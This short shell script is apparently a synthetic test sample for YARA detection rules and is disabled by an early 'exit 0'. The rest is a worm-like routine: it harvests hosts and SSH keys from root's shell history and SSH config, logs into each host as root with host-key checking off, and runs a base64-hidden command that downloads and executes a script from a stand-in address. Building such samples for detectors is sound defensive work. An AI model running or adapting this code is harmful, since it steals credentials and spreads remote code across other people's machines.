#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run (hosts from shell history and ssh config)
hosts=$(grep -E 'ssh|scp' /root/.bash_history | grep -oE '[0-9]+\.[0-9]+\.[0-9]+\.[0-9]+')
hosts="$hosts $(grep HostName /root/.ssh/config | awk '{print $2}')"
keys=$(grep IdentityFile /root/.ssh/config | awk '{print $2}')
for h in $hosts; do for k in $keys; do
  ssh -i $k -o StrictHostKeyChecking=no root@$h 'echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4zL3Iuc2ggfCBzaA== | base64 -d | sh'
done; done
